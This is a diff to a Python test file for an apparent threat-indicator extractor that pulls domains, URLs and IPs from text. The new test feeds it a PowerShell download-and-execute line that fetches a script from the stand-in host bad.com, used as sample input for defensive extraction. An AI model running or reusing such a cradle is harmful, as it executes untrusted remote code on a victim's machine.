@@ -336,6 +336,12 @@ def test_in_a_list_that_defangs_what_stands_plain_in_a_sentence_is_none() -> Non
     assert taken(("it looked like http://bad.com/ to the user",)) == ["http://bad.com/"]
 
 
+def test_values_that_stand_alone_make_no_url_in_a_script_of_their_list_less_meant() -> None:
+    script = "IEX (New-Object Net.WebClient).DownloadString('http://bad.com/a.ps1'); connect to 45.77.10.20 then"
+    assert set(taken(("evil.com",), (script,))) == {"evil.com", "http://bad.com/a.ps1", "45.77.10.20"}
+    assert taken(("evil[.]com",), (script,)) == ["evil.com"]
+
+
 def test_a_list_without_headings_loses_nothing_of_its_first_row() -> None:
     assert taken(("evil.com",), ("evil.org",), ("evil.net",)) == ["evil.com", "evil.org", "evil.net"]
     assert taken(("evil.com", "8.8.8.8"), ("evil.org", "9.9.9.9")) == ["evil.com", "8.8.8.8", "evil.org", "9.9.9.9"]
